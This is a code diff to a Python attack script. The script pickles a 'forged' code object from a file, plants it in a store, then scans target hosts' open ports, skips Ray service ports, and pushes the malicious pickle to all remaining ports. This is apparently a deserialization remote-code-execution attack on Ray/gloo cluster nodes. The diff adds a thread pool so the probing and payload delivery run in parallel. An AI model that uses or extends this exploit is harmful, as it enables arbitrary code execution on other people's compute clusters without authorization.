@@ -13,6 +13,7 @@ import pickle
 import socket
 import sys
 from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -41,11 +42,8 @@ def write_to_store(address: str, port: int, content: bytes) -> list[str]:
     return known
 
 
-def is_rays(host: str, port: int) -> bool:
-    return (
-        grpc_probe.http(host, port, "/") is not None
-        or grpc_probe.call(host, port, grpc_probe.ray_methods()[0]) is not None
-    )
+def is_rays(host: str, port: int, method: str) -> bool:
+    return grpc_probe.http(host, port, "/") is not None or grpc_probe.call(host, port, method) is not None
 
 
 def write_to_port(host: str, port: int, content: bytes) -> None:
@@ -57,9 +55,12 @@ def write_to_port(host: str, port: int, content: bytes) -> None:
 if __name__ == "__main__":
     forged = pickle.dumps(Code(Path(sys.argv[3])))
     known = write_to_store(sys.argv[1], int(sys.argv[2]), forged)
+    method = grpc_probe.ray_methods()[0]
     ports = {}
-    for host in sys.argv[4:]:
-        ports[host] = [port for port in grpc_probe.open_ports(host) if not is_rays(host, port)]
-        for port in ports[host]:
-            write_to_port(host, port, forged)
+    with ThreadPoolExecutor(16) as pool:  # a port of gloo does not answer: every question takes its whole time limit
+        for host in sys.argv[4:]:
+            listening = grpc_probe.open_ports(host)
+            rays = pool.map(lambda port, host=host: is_rays(host, port, method), listening)
+            ports[host] = [port for port, is_of_ray in zip(listening, rays, strict=True) if not is_of_ray]
+            pool.map(lambda port, host=host: write_to_port(host, port, forged), ports[host])
     print(json.dumps({"known": known, "ports": ports}))
